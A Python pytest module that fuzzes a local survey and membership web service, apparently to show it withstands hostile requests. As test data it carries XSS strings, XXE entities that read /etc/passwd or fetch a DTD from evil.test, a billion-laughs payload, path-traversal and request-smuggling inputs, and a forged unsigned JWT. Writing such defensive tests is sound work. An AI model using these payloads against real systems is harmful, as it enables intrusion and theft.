"""Everything nobody should send, to every way in, through the gateway: a clear answer, never a fault of ours.

One stack for the whole file. What is planted in what is sent may neither come back unescaped nor be in any log.
"""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote
from uuid import UUID, uuid4

import asyncpg
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from local.acting import CONFIRM_LINK, SURVEY_LINK, client, consent_version, link_in, sign_up
from local.stack import Stack
from local.story import CAMPAIGNS, person
from tests.faults.hostile import BODIES, FORM, JSON, KIB, NOBODY, PLANTED, SCRIPT, TARGETS, Door, Reply, Route, deep, routes
from tests.faults.ledger import submitted
from tests.faults.openapi import ANYTHING, TEXT, Call, operations
from tests.faults.storm import Town, invitation_of, until
from tests.load import survey

ROUTES = routes()
WRITES = [route for route in ROUTES if route.method in {"POST", "PUT"} and not route.path.endswith("/sign-out")]
NAMES = {"nb": "nb-NO", "nn": "nn-NO", "en": "en-GB"}
MEMBERS = 14


@dataclass
class House:
    """`link` is never used up by a test; the others are, one each."""

    stack: Stack
    town: Town
    public: Door
    staff: Door
    link: str
    links: Iterator[str]
    open_survey: UUID
    draft: UUID
    closed_link: str
    confirm_link: str
    expired_link: str
    link_to_spoil: str
    used: set[UUID] = field(default_factory=set)
    drafted: list[str] = field(default_factory=list)

    def at(self, route: Route, **values: str) -> str:
        token = self.link if route.path.startswith(("/s/", "/api/surveys/")) else self.confirm_link[:-1] + "x"
        known = {
            "token": token,
            "survey_id": str(self.draft),
            "section_id": "page-1",
            "act": "app",
            "slug": "x",
            "campaign": "x",
        }
        return route.at(**known | values)

    def door_to(self, route: Route) -> Door:
        return self.public if route.open else self.staff

    def link_to_use(self) -> str:
        link = next(self.links)
        self.used.add(invitation_of(link))
        return link

    async def counted(self) -> int:
        return await self.town.completed()


@pytest.fixture(scope="module")
async def house(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    with Stack(Path(tmp_path_factory.mktemp("bad-input")) / "run") as stack:
        async with client(stack.endpoints) as http:
            town = Town(stack, http)
            await town.office.sign_in()
            await town.recruit(MEMBERS)
            closed = await town.invite()
            closed_link = town.links[0]
            await town.office.close(closed)
            town.links.clear()
            open_survey = await town.invite()
            draft = (await http.post("/api/surveys/staff/surveys", json=survey.definition(9))).json()["survey_id"]
            waiting, expired = await _sign_up_two(town)
            cookie = "; ".join(f"{kept.name}={kept.value}" for kept in http.cookies.jar)
            url = stack.endpoints["public"]
            spare, spoilt_one, *links = town.links
            yield House(
                stack, town, Door(url), Door(url, cookie), spare, iter(links), open_survey, UUID(draft), closed_link,
                waiting, expired, spoilt_one,
            )  # fmt: skip


async def _sign_up_two(town: Town) -> list[str]:
    """Two who have not confirmed; for the second, the two days are over."""
    consent = await consent_version(town.http)
    tokens: list[str] = []
    for number in (901, 902):
        await sign_up(town.http, person(town.chance, number, CAMPAIGNS[0], consent) | {"campaign": ""})
    while len(tokens) < 2:
        tokens += [token for mail in await town.mailbox.fresh() if (token := link_in(mail, CONFIRM_LINK))]
    await _let_expire(town.stack, invitation_of(tokens[1]))
    return tokens


async def _let_expire(stack: Stack, member_id: UUID) -> None:
    server = stack.endpoints["postgres"]
    connection = await asyncpg.connect(
        host=server["socket"], port=server["port"], user=server["superuser"], database="membership"
    )
    at = r"""regexp_replace(data::text, '("signed_up_at":")\d{4}', '\12020')"""
    earlier = f"update events set data = {at}::json where stream_id = $1"
    await connection.execute("set session_replication_role = replica")  # else the log itself refuses: facts are never changed
    assert await connection.execute(earlier, member_id) == "UPDATE 1"
    await connection.close()


def clear(reply: Reply, what: str) -> None:
    """No fault of ours; a page or a problem that says what is wrong; nothing of what was sent as markup or header."""
    assert reply.status < 500, (what, reply)
    assert SCRIPT.encode() not in reply.body or reply.kind != "text/html", (what, reply)
    assert "x-planted" not in reply.headers, (what, reply)
    if reply.status < 400 or not reply.body:
        return
    if reply.kind == "application/problem+json":
        problem = json.loads(reply.body)
        assert problem["type"].startswith("urn:samrad:problem:"), (what, reply)
        assert problem["status"] == reply.status, (what, reply)
        assert problem["title"], (what, reply)
    else:
        assert reply.kind == "text/html", (what, reply)
        assert re.search(rb"<h1[^>]*>\s*\S", reply.body), (what, reply)
        assert b'<html lang="' in reply.body, (what, reply)


def refused(reply: Reply, what: str, *statuses: int) -> None:
    clear(reply, what)
    assert reply.status in statuses, (what, reply)


def title_of(reply: Reply) -> str:
    found = re.search(r"<title>(.*?)</title>", reply.body.decode(), re.DOTALL)
    assert found
    return found[1]


def accepted_by(route: Route) -> tuple[str, ...]:
    return ("*/*",) if route.is_api else ("*/*", "text/html")


@pytest.mark.parametrize("route", WRITES, ids=lambda route: f"{route.method} {route.path}")
def test_no_body_makes_a_fault(house: House, route: Route) -> None:
    for name, (kind, body) in BODIES.items():
        for accept in accepted_by(route):
            headers = {"content_type": kind} if kind else {}
            reply = house.door_to(route).send(route.method, house.at(route), body, accept=accept, **headers)
            clear(reply, name)


def test_no_address_makes_a_fault(house: House) -> None:
    for route in ROUTES:
        names = re.findall(r"\{(\w+)\}", route.path)
        for what, target in TARGETS.items():
            for name in names:
                reply = house.door_to(route).send(route.method, house.at(route, **{name: target}), accept="text/html")
                if target == "%":
                    assert reply.status == 400, (route, reply)  # the gateway's own parser: it is no address at all
                else:
                    clear(reply, f"{route} {what}")


QUERIES = [
    "%00", "a=%ff", "lang=%00", "lang=%3Cscript%3E", f"next={quote(SCRIPT)}", "next=//evil.test/",
    "next=%00", "by=%00", f"by={PLANTED}", "before=99999999999999999999999", "before=-1", "before=NaN", "limit=1e9",
    "count&areas=%00", "done=%00", "made=%00", "then=%00", "a=" + "b" * 6_000, "a&" * 3_000, "&&&=&=", "%", "lang=nb&lang=en",
]  # fmt: skip


def test_no_query_makes_a_fault(house: House) -> None:
    for route in ROUTES:
        if route.method == "GET":
            for query in QUERIES:
                clear(
                    house.door_to(route).send("GET", f"{house.at(route)}?{query}", accept="text/html"), f"{route} {query[:40]}"
                )


def test_no_header_makes_a_fault(house: House) -> None:
    odd = "\xff\xe6"
    for target in ("/", f"/s/{house.link}", "/resultater", "/staff/sign-in", "/api/membership/panel"):
        for name in (
            "accept_language",
            "cookie",
            "accept",
            "if_none_match",
            "origin",
            "sec_fetch_site",
            "content_type",
            "range",
        ):
            for value in (odd, f"{PLANTED};q=x," * 300, "lang=%00; samrad-staff=" + odd, SCRIPT, ""):
                clear(house.public.send("GET", target, b"", **{name: value}), f"{target} {name} {value[:20]}")


def test_what_the_gateway_cannot_read_never_reaches_a_service(house: House) -> None:
    """Its parser answers by itself, briefly and in plain text: no page of ours is shown for what is no request."""
    door = house.public
    assert door.send("GET", "/", x_long="a" * 60 * KIB).status == 431
    assert door.send("GET", "/" + "a" * 200 * KIB).status == 431
    assert door.send("POST", "/bli-med", b"", content_length="-1").status == 400
    assert door.raw(b"\x00\x01 / HTTP/1.1\r\nHost: a\r\n\r\n").status == 400
    assert door.raw(b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n").status == 400
    assert door.raw(b"GET / HTTP/1.1\r\n\r\n").status == 400
    for smuggled in ("chunked, identity", "x", " chunked\t,"):
        assert door.send("POST", "/bli-med", b"0\r\n\r\n", transfer_encoding=smuggled).status in {400, 501}


LIMITS = [
    ("/bli-med", 64 * KIB, FORM),
    ("/s/{link}/page-1", 64 * KIB, FORM),
    ("/staff/sign-in", 64 * KIB, FORM),
    ("/api/membership/sign-ups", 64 * KIB, JSON),
    ("/api/membership/confirmations", 64 * KIB, JSON),
    ("/api/surveys/answer/{link}", 64 * KIB, JSON),
    ("/staff/panel/campaigns", 1024 * KIB, FORM),
    ("/api/surveys/staff/surveys", 1024 * KIB, JSON),
    ("/staff/surveys", 5 * 1024 * KIB, "multipart/form-data; boundary=b"),
    ("/staff/surveys/00000000-0000-4000-8000-000000000000/pictures", 5 * 1024 * KIB, "multipart/form-data; boundary=b"),
]


@pytest.mark.parametrize(("path", "limit", "kind"), LIMITS, ids=str)
def test_a_body_is_at_most_so_large_whether_it_says_its_length_or_not(house: House, path: str, limit: int, kind: str) -> None:
    target = path.replace("{link}", house.link)
    start = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.json"\r\n\r\n' if "multipart" in kind else b"name="
    )
    body = start + PLANTED.encode() * ((limit + 32 * KIB) // len(PLANTED))
    headers = {"content_type": kind, "accept": "text/html"}
    refused(house.staff.send("POST", target, body, **headers), "told", 413)
    refused(house.staff.chunked("POST", target, body, **headers), "chunked", 413)
    refused(house.staff.send("POST", target, b"a", **headers, content_length=str(10**15)), "promised", 413)


@pytest.mark.parametrize("method", ["DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT", "PLANT", "get"])
def test_a_method_nobody_knows_is_refused(house: House, method: str) -> None:
    addresses = {house.at(route) for route in ROUTES} | {"/static/samrad.css", "/api/", "/api/asyncapi.json", "/nowhere"}
    for address in addresses:
        refused(house.staff.send(method, address, accept="text/html"), f"{method} {address}", 404, 405)


def test_the_right_method_is_needed(house: House) -> None:
    known = [(route.method, re.compile(re.sub(r"\{\w+\}", "[^/]+", route.path))) for route in ROUTES]
    for route in ROUTES:
        address = house.at(route)
        for method in ("GET", "POST", "PUT"):
            if not any(method == known_method and pattern.fullmatch(address) for known_method, pattern in known):
                refused(house.door_to(route).send(method, address, accept="text/html"), f"{method} {address}", 404, 405)


def test_a_token_that_is_not_ours_opens_nothing(house: House) -> None:
    bad = [
        "x" * 43,
        house.link[:-1],
        house.link + "A",
        house.link[:-1] + "=",
        house.link.swapcase(),
        house.confirm_link,
        "%00" * 43,
    ]
    for token in bad:
        refused(house.public.send("GET", f"/s/{token}", accept="text/html"), token, 404)
        refused(house.public.send("POST", f"/s/{token}/submit", b"", accept="text/html"), token, 404)
        refused(house.public.send("GET", f"/api/surveys/answer/{token}"), token, 404)
        refused(post_answers(house, token), token, 404)
    for token in [*bad[:-2], house.link]:
        refused(house.public.send("GET", f"/bekreft/{token}", accept="text/html"), token, 404)
        refused(house.public.send("POST", f"/bekreft/{token}", b"", accept="text/html"), token, 404)
        refused(post_json(house, "/api/membership/confirmations", {"token": token}), token, 404)


def test_a_confirm_link_that_is_too_old_says_so(house: House) -> None:
    for language, locale in NAMES.items():
        for method in ("GET", "POST"):
            reply = house.public.send(method, f"/bekreft/{house.expired_link}", accept="text/html", accept_language=locale)
            refused(reply, "expired", 410)
            assert f'<html lang="{language}"'.encode() in reply.body
    refused(post_json(house, "/api/membership/confirmations", {"token": house.expired_link}), "expired", 410)


def post_json(house: House, target: str, content: Any) -> Reply:
    return house.public.send("POST", target, json.dumps(content).encode(), content_type=JSON)


def post_answers(house: House, token: str, body: bytes | None = None) -> Reply:
    return house.public.send(
        "POST", f"/api/surveys/answer/{token}", body or survey.submission(house.town.chance), content_type=JSON
    )


def test_of_twenty_answers_on_one_link_at_once_one_is_registered(house: House) -> None:
    link = house.link_to_use()
    with ThreadPoolExecutor(20) as people:
        replies = list(people.map(lambda _: post_answers(house, link), range(20)))
    assert sorted(reply.status for reply in replies) == [201] + [409] * 19
    for reply in replies:
        clear(reply, "at once")


def test_one_answer_sent_twenty_times_at_once_is_registered_and_counted_once(house: House) -> None:
    link, body = house.link_to_use(), survey.submission(house.town.chance)
    with ThreadPoolExecutor(20) as people:
        replies = list(people.map(lambda _: post_answers(house, link, body), range(20)))
    assert sorted(reply.status for reply in replies) == [200] * 19 + [201]
    assert all(json.loads(reply.body) == {"status": "registered"} for reply in replies)


def test_twenty_browsers_with_one_link_register_one_answer(house: House) -> None:
    link = house.link_to_use()
    form = "q-list=no&go=send&submission_id="

    def send(submission: object) -> Reply:
        body = f"{form}{submission}".encode()
        return house.public.send("POST", f"/s/{link}/page-1", body, content_type=FORM, accept="text/html")

    with ThreadPoolExecutor(20) as people:
        replies = list(people.map(send, [uuid4() for _ in range(20)]))
    assert sorted(reply.status for reply in replies) == [200] + [409] * 19
    (one,) = {title_of(reply) for reply in replies if reply.status == 409}
    assert one != title_of(next(reply for reply in replies if reply.status == 200))


async def at_once(house: House, target: str, content: Any) -> list[int]:
    posts = [house.town.http.post(target, json=content) for _ in range(20)]
    return sorted(answer.status_code for answer in await asyncio.gather(*posts))


async def test_twenty_who_draft_at_once_get_a_survey_each(house: House) -> None:
    assert await at_once(house, "/api/surveys/staff/surveys", survey.definition(7)) == [201] * 20
    listed = (await house.town.http.get("/api/surveys/staff/surveys")).json()
    assert len({known["number"] for known in listed}) == len(listed) >= 20


async def test_one_sign_up_sent_twenty_times_is_one_mail_and_one_member(house: House) -> None:
    town = house.town
    before = await town.office.members()
    await town.mailbox.fresh()
    written = person(town.chance, 903, CAMPAIGNS[0], await consent_version(town.http)) | {"campaign": ""}
    assert await at_once(house, "/api/membership/sign-ups", written) == [202] * 20
    tokens: list[str] = []
    for _ in range(20):
        await asyncio.sleep(0.1)
        tokens += [token for mail in await town.mailbox.fresh() if (token := link_in(mail, CONFIRM_LINK))]
    assert len(tokens) == 1
    assert await at_once(house, "/api/membership/confirmations", {"token": tokens[0]}) == [200] * 20
    await until(town.office.members, before + 1)
    assert await town.office.members() == before + 1


async def test_a_campaign_that_cannot_be_is_no_hindrance_to_joining(house: House) -> None:
    town = house.town
    for number, campaign in enumerate(("\0", "a\0b", SCRIPT, "æ" * 300, "../x"), start=910):
        written = person(town.chance, number, CAMPAIGNS[0], await consent_version(town.http)) | {"campaign": campaign}
        assert (await town.http.post("/bli-med", data=written)).status_code == 303
        assert (
            await town.http.post("/api/membership/sign-ups", json=written | {"campaign": campaign[:300]})
        ).status_code == 202


async def test_one_survey_sent_out_twenty_times_at_once_invites_each_member_once(house: House) -> None:
    town = house.town
    survey_id = await town.publish()
    town.surveys.pop()  # nobody answers this one
    members = await town.office.members()
    await town.mailbox.fresh()
    assert await at_once(house, f"/api/surveys/staff/surveys/{survey_id}/dispatches", {}) == [202] * 20
    sent_to: list[str] = []
    for _ in range(30):
        await asyncio.sleep(0.1)
        sent_to += [mail["to"][0] for mail in await town.mailbox.fresh() if link_in(mail, SURVEY_LINK)]
    assert len(sent_to) == len(set(sent_to)) == members


async def test_who_guesses_passwords_is_slowed_down_whatever_address_is_claimed(house: House) -> None:
    statuses = []
    for n in range(40):
        claimed = {"x-forwarded-for": f"10.0.{n}.1", "forwarded": f"for=10.1.{n}.1", "x-real-ip": f"10.2.{n}.1"}
        guess = {"name": f"{PLANTED}-{n}", "password": PLANTED, "code": "000000"}
        statuses.append((await house.town.http.post("/api/identity/sign-in", json=guess, headers=claimed)).status_code)
    assert set(statuses) <= {401, 429}
    assert statuses[-1] == 429


def test_a_link_that_was_used_says_so_everywhere(house: House) -> None:
    link = house.link_to_use()
    assert post_answers(house, link).status == 201
    for language, locale in NAMES.items():
        for method, end in (("GET", ""), ("GET", "/check"), ("GET", "/page-1"), ("POST", "/page-1"), ("POST", "/submit")):
            reply = house.public.send(method, f"/s/{link}{end}", b"", accept="text/html", accept_language=locale)
            refused(reply, f"{method} {end}", 409)
            assert f'<html lang="{language}"'.encode() in reply.body
    refused(post_answers(house, link), "again", 409)
    assert json.loads(house.public.send("GET", f"/api/surveys/answer/{link}").body)["state"] == "answered"


def test_a_closed_survey_takes_no_answer_and_says_so(house: House) -> None:
    link = house.closed_link
    for method, end in (("GET", ""), ("GET", "/check"), ("GET", "/page-1"), ("POST", "/page-1"), ("POST", "/submit")):
        refused(house.public.send(method, f"/s/{link}{end}", b"q-list=yes", content_type=FORM, accept="text/html"), end, 410)
    refused(post_answers(house, link), "closed", 410)


MISFITS: dict[str, list[Any]] = {
    "list": ["maybe", 1, None, ["yes"], {"a": 1}, True, "\x00", "yes\x00", SCRIPT],
    "boxes": ["box-1", ["box-9"], [1], [None], [["box-1"]], {"box-1": True}, ["box-1"] * 3_000 + ["box-9"]],
    "count": ["7", 1e999, -1, 101, 10**400, 0.5, True, [1], {}],
    "why": [1, [], {}, "a" * 201, True],
    "first-array": [[], "row-1", {"row-9": "point-1"}, {"row-1": "point-9"}, {"row-1": 1}, {"row-1": None}, {SCRIPT: SCRIPT}],
    "five": ["3", 0, 6, 2.5, 10**30, -(10**30), True, [3]],
    "long": [1, "a" * 4_001, [], {"a": "b"}],
    "nowhere": ["x"],
}


def test_an_answer_that_does_not_fit_its_question_is_refused_whatever_the_kind(house: House) -> None:
    link = house.link
    for name, values in MISFITS.items():
        for value in values:
            answers = {"list": "yes"} | {name: value}
            body = json.dumps({"submission_id": str(uuid4()), "answers": answers}).replace("Infinity", "1e999").encode()
            refused(post_answers(house, link, body), f"{name}: {str(value)[:50]}", 422)


@pytest.mark.parametrize(
    "body",
    [
        b"{}",
        b'{"submission_id":"x","answers":{}}',
        b'{"submission_id":"%b","answers":[]}' % str(NOBODY).encode(),
        b'{"submission_id":"%b","answers":{},"language":"de"}' % str(NOBODY).encode(),
        b'{"submission_id":"%b","answers":{},"more":1}' % str(NOBODY).encode(),
        b'{"submission_id":"%b","answers":{"list":NaN}}' % str(NOBODY).encode(),
        b'{"submission_id":"%b","answers":{"long":"\xff"}}' % str(NOBODY).encode(),
        b'{"submission_id":"%b","answers":{"list":"yes","long":"\\ud800"}}' % str(NOBODY).encode(),
        b'{"submission_id":"%b","answers":{"%b":"\\u0000"}}' % (str(NOBODY).encode(), PLANTED.encode()),
    ],
)
def test_a_submission_that_is_none_is_refused(house: House, body: bytes) -> None:
    refused(post_answers(house, house.link, body), repr(body), 422)


def test_an_answer_on_a_page_that_does_not_fit_is_shown_again_with_what_is_wrong(house: House) -> None:
    long = "%3Cscript%3Ealert(1)%3C/script%3E" + PLANTED
    fields = ["q-list=maybe", "q-count=many", f"q-count={long}", "q-boxes=box-9", f"q-why={'a' * 300}", f"q-list={long}"]
    for written in fields:
        reply = house.public.send("POST", f"/s/{house.link}/page-1", written.encode(), content_type=FORM, accept="text/html")
        refused(reply, written, 422)
        assert b"<script>alert" not in reply.body
    last = house.public.send("POST", f"/s/{house.link}/page-3", b"q-five=9&go=send", content_type=FORM, accept="text/html")
    refused(last, "last page", 422)


def upload(house: House, content: bytes, **headers: str) -> Reply:
    start = f'--b\r\nContent-Disposition: form-data; name="file"; filename="{PLANTED}.lss"\r\n\r\n'.encode()
    body = start + content + b"\r\n--b--\r\n"
    headers = {"content_type": "multipart/form-data; boundary=b", "accept": "text/html"} | headers
    return house.staff.send("POST", "/staff/surveys", body, **headers)


SOUND = (Path(__file__).parents[2] / "services/surveys/tests/importing/files/lekeplasser.lss").read_bytes()
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE d [%b]><document><LimeSurveyDocType>Survey</LimeSurveyDocType>%b</document>'
LAUGHS = b"".join(b'<!ENTITY l%d "%b">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))
FILES = {
    "nothing": b"",
    "only spaces": b" \n" * 100,
    "binary": bytes(range(256)) * 40,
    "zip": b"PK\x03\x04" + b"\x00" * 400,
    "truncated": SOUND[: len(SOUND) // 2],
    "cut in a letter": SOUND[: SOUND.index("ø".encode()) + 1],
    "entities": DOCTYPE % (b'<!ENTITY a "aaaa">', b"&a;"),
    "a file of ours": DOCTYPE % (b'<!ENTITY a SYSTEM "file:///etc/passwd">', b"&a;"),
    "another site": DOCTYPE % (b'<!ENTITY % a SYSTEM "http://evil.test/x.dtd">%a;', b""),
    "billion laughs": DOCTYPE % (b'<!ENTITY l0 "lol">' + LAUGHS, b"&l9;"),
    "wrong root": b"<?xml version='1.0'?><html><script>alert(1)</script></html>",
    "wrong kind": SOUND.replace(b">Survey<", b">Label set<"),
    "excel with macros": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le"),
    "excel that is none": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2_000,
    "panels in panels": b'{"elements":' + b'[{"type":"panel","elements":' * 40 + b"[]" + b"}]" * 40 + b"}",
    "strange encoding": b'<?xml version="1.0" encoding="klingon"?><document/>',
    "utf-16 that is none": b'<?xml version="1.0" encoding="utf-16"?><document/>',
    "deep": b"<a>" * 200_000,
    "nul": SOUND.replace(b"</row>", b"\x00</row>", 1),
    "no json": b'{"format": "samrad.survey/1", "title"',
    "deep json": deep(),
    "other json": b'{"a": 1}',
    "half a letter": b'{"format":"samrad.survey/1","languages":["nb"],"title":{"nb":"\\ud800"},"sections":[]}',
    "huge number": b'{"format":' + b"9" * 10_000 + b"}",
    "nan": b'{"format": NaN}',
    "list of nothing": b"[" + b"null," * 100_000 + b"null]",
}


@pytest.mark.parametrize("content", FILES.values(), ids=FILES.keys())
def test_a_file_that_holds_no_survey_is_refused_with_the_reason(house: House, content: bytes) -> None:
    for language, locale in NAMES.items():
        reply = upload(house, content, accept_language=locale)
        refused(reply, "upload", 422)
        assert f'<html lang="{language}"'.encode() in reply.body
        assert b"root:" not in reply.body
    form = f"losses=[]&definition={quote(content[:20_000])}".encode()
    refused(house.staff.send("POST", "/staff/surveys/import", form, content_type=FORM, accept="text/html"), "import", 422)


def test_a_file_of_six_mebibytes_is_too_large(house: House) -> None:
    refused(upload(house, b" " * 6 * 1024 * KIB), "upload", 413)


def test_script_in_the_texts_of_a_file_is_shown_as_nothing_more_than_text(house: House) -> None:
    evil = b"<script>alert(1)</script><img src=x onerror=alert(1)>\"'>{{7*7}}"
    imported = upload(house, SOUND.replace(b"<question><![CDATA[", b"<question><![CDATA[" + evil))
    assert imported.status == 200
    definition = survey.definition(4) | {"title": dict.fromkeys(survey.LANGUAGES, evil.decode())}
    drafted = house.staff.send("POST", "/api/surveys/staff/surveys", json.dumps(definition).encode(), content_type=JSON)
    assert drafted.status == 201
    page = f"/staff/surveys/{json.loads(drafted.body)['survey_id']}"
    for shown in (imported, *(house.staff.send("GET", page + end, accept="text/html") for end in ("", "/questions", "/check"))):
        assert shown.status == 200
        assert b"<script>alert" not in shown.body
        assert b"<img src=x" not in shown.body
        assert b"49" not in re.findall(rb"onerror=alert\(1\)[^{]{0,20}(\{\{7\*7\}\}|49)", shown.body)


DEFINITIONS: list[Any] = [
    {}, [], None, "x", 7, {"format": "samrad.survey/2"}, {"format": "samrad.survey/1", "sections": None},
    survey.definition(5) | {"languages": []}, survey.definition(5) | {"languages": ["nb", "de"]},
    survey.definition(5) | {"title": {}},
    survey.definition(5) | {"sections": survey.definition(5)["sections"] * 2}, survey.definition(5) | {"more": SCRIPT},
    survey.definition(5) | {"title": dict.fromkeys(survey.LANGUAGES, "a\ud800")},
    survey.definition(5) | {"title": dict.fromkeys(survey.LANGUAGES, "")},
    survey.definition(5) | {"sections": [{"id": SCRIPT, "title": survey.text("x"), "questions": []}]},
]  # fmt: skip


def test_a_document_that_is_no_survey_is_refused_with_its_places(house: House) -> None:
    for definition in DEFINITIONS:
        body = json.dumps(definition).encode()
        ways = (("POST", "/api/surveys/staff/surveys"), ("PUT", f"/api/surveys/staff/surveys/{house.draft}/definition"))
        for method, target in ways:
            refused(house.staff.send(method, target, body, content_type=JSON), repr(definition)[:200], 422)


def test_other_sites_cannot_post_here(house: House) -> None:
    foreign: list[dict[str, str]] = [
        {"sec_fetch_site": "cross-site"}, {"sec_fetch_site": "same-site"}, {"origin": "https://evil.test"}, {"origin": "null"},
        {"origin": house.public.origin + ".evil.test"}, {"sec_fetch_site": "cross-site", "origin": house.public.origin},
    ]  # fmt: skip
    for route in WRITES:
        for headers in foreign:
            reply = house.door_to(route).send(route.method, house.at(route), b"", accept="text/html", **headers)
            proven = route.path.startswith("/avmeld/")  # mail programs press it from anywhere: the link itself is the proof
            refused(reply, f"{route} {headers}", 404 if proven else 403)


def test_a_refusal_speaks_the_readers_language(house: House) -> None:
    asked = [
        ("POST", "/bli-med", {"sec_fetch_site": "cross-site"}),
        ("POST", "/bli-med", {"content_length": str(10**12)}),
        ("GET", "/nowhere", {}),
        ("GET", "/resultater/%00", {}),
        ("DELETE", "/personvern", {}),
        ("GET", f"/s/{'x' * 43}", {}),
        ("GET", "/bekreft/x", {}),
    ]
    for method, target, headers in asked:
        titles = set()
        for language, locale in NAMES.items():
            reply = house.public.send(method, target, b"", accept="text/html", accept_language=locale, **headers)
            assert f'<html lang="{language}"'.encode() in reply.body, (target, reply)
            titles.add(title_of(reply))
        assert len(titles) >= 2, titles  # some sentences are the same in nb and nn


@pytest.mark.parametrize("forged", ["x", "e30.e30.", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIiwiYXVkIjoic2FtcmFkIn0."])
def test_nobody_is_staff_by_saying_so(house: House, forged: str) -> None:
    for route in ROUTES:
        if not route.open:
            for name in ("x_samrad_staff", "X_Samrad_Staff"):
                reply = house.public.send(route.method, house.at(route), b"", accept="text/html", **{name: forged})
                assert reply.status in {303, 401}, (route, reply)
                way_in = "/min-side/logg-inn" if route.right == "member" else "/staff/sign-in?next=/staff/"
                assert reply.status == 401 or reply.headers["location"].startswith(way_in), reply
                clear(reply, str(route))


def test_a_header_with_low_lines_is_no_other_name_for_it(house: House) -> None:
    head = {"X_Samrad_Staff": "x", "X-Samrad_Staff": "x"}
    reply = house.public.say("GET", "/api/identity/staff/me", head, b"")
    assert reply.status == 401


def test_no_file_is_read_from_outside_the_static_ones(house: House) -> None:
    ways = ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..;/", "....//", "%252e%252e%252f", ".%00./"]
    wanted = ["etc/passwd", "pyproject.toml", "templates/base.html", "keys/LINK_KEY", ".run/endpoints.json"]
    for way in ways:
        for depth in (1, 2, 4, 8):
            for file in wanted:
                for root in ("/static/", "/static/icons/", "/api/", "/resultater/"):
                    reply = house.public.send("GET", root + way * depth + file, accept="text/html")
                    refused(reply, root + way * depth + file, 301, 307, 308, 400, 404)


CALLS = {"surveys": 950, "membership": 650, "analytics": 300, "notifications": 120, "identity": 80}


def spoilt(content: Any) -> st.SearchStrategy[Any]:
    """A document with one place of it replaced, taken away or said twice."""
    if not isinstance(content, dict | list) or not content:
        return ANYTHING
    places = list(content) if isinstance(content, dict) else list(range(len(content)))

    def change(place: Any) -> st.SearchStrategy[Any]:
        def put(value: Any) -> Any:
            if isinstance(content, dict):
                return content | {place: value}
            return [*content[:place], value, *content[place + 1 :]]

        without = put(None) if isinstance(content, list) else {k: v for k, v in content.items() if k != place}
        deeper = spoilt(content[place]).map(put)
        return st.one_of(deeper, deeper, TEXT.map(put), st.just(without))

    return st.sampled_from(places).flatmap(change)


def test_thousands_of_calls_drawn_from_the_documents_make_no_fault(house: House) -> None:
    definition = survey.definition(3)
    given_answers = st.sampled_from([survey.answers(house.town.chance) for _ in range(5)])
    answers = st.one_of(given_answers, given_answers.flatmap(spoilt), ANYTHING)
    known = {"survey_id": [str(house.draft)], "token": [house.link_to_spoil], "slug": ["om-nettsidene"]}
    bodies = {
        "Definition": st.one_of(st.just(definition), spoilt(definition)),
        "Submission": st.fixed_dictionaries({"submission_id": st.uuids().map(str), "answers": answers}),
        "SavedAnswers": st.fixed_dictionaries({"answers": answers}),
    }
    made: list[int] = []
    for service, examples in CALLS.items():
        document = json.loads(house.public.send("GET", f"/api/{service}/openapi.json").body)
        ways = [way.calls(known, bodies) for way in operations(document) if not way.path.endswith("/sign-out")]

        @given(st.one_of(ways))
        @settings(
            max_examples=examples, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck)
        )
        def call(drawn: Call) -> None:
            made.append(_status_of(house, drawn))

        call()
    assert len(made) >= 2_000
    assert {200, 201, 404, 409, 422} <= set(made), "the calls come no further than the door"


def _status_of(house: House, call: Call) -> int:
    reply = house.staff.send(call.operation.method, call.target, call.payload, content_type=JSON)
    clear(reply, f"{call.operation.method} {call.target} {call.payload[:2_000]!r}")
    if reply.status == 201 and "/api/surveys/answer/" in call.target:
        house.used.add(invitation_of(house.link_to_spoil))
    if reply.status == 201 and reply.body.startswith(b'{"survey_id"'):
        house.drafted.append(json.loads(reply.body)["survey_id"])
    return reply.status


def test_what_was_taken_in_is_shown_without_a_fault(house: House) -> None:
    """Surveys and campaigns that came through the fuzz: every page of theirs, in every language."""
    assert house.drafted
    pages = ["/staff/surveys", "/staff/panel/campaigns", "/staff/results", "/staff/outbox", "/staff/", "/resultater", "/"]
    for survey_id in house.drafted[:40]:
        pages += [
            f"/staff/surveys/{survey_id}{end}" for end in ("", "/questions", "/audience", "/check", "/dispatch", "/close")
        ]
    for page in pages:
        reply = house.staff.send("GET", page, accept="text/html")
        clear(reply, page)
        assert reply.status == 200, page


async def test_after_all_this_each_used_link_is_counted_once(house: House) -> None:
    held = await submitted(house.stack)
    assert held == dict.fromkeys(house.used, 1)
    await until(house.counted, len(house.used))
    assert await house.counted() == len(house.used)


async def test_a_text_that_no_database_can_show_stops_nothing(house: House) -> None:
    """PostgreSQL keeps NUL in JSON and gives no text with it: one such fact would stop its read models for ever."""
    poisoned = survey.definition(6) | {"title": dict.fromkeys(survey.LANGUAGES, "Om\0 byen")}
    campaign = {"slug": "gift", "channel": "poster", "message": "Bli\0 med", "starts_on": "2026-11-01"}
    for target, content in (("/api/surveys/staff/surveys", poisoned), ("/api/membership/staff/campaigns", campaign)):
        refused(house.staff.send("POST", target, json.dumps(content).encode(), content_type=JSON), target, 422)
    await house.town.office.create_campaign("frisk", "poster", "Bli med", "2026-11-01")
    shown = house.staff.send("GET", "/api/membership/staff/campaigns")
    assert "frisk" in [known["slug"] for known in json.loads(shown.body)]


def test_after_all_this_no_log_holds_what_was_sent(house: House) -> None:
    secrets = [
        PLANTED,
        house.link,
        house.closed_link,
        house.confirm_link,
        house.expired_link,
        "evil.test",
        "demomedlem",
        "etc/passwd",
    ]
    for log in house.stack.state.logs.iterdir():
        written = log.read_text(errors="replace")
